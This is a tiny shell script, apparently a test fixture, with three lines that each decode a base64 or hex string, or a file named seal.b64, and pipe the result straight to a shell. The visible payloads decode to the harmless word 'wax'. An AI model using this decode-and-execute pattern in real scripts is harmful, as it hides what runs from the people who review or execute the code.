#!/bin/sh
eval "$(echo d2F4 | base64 --decode | sh)"
bash <(base64 -d seal.b64)
echo 776178 | xxd -r -p | sh
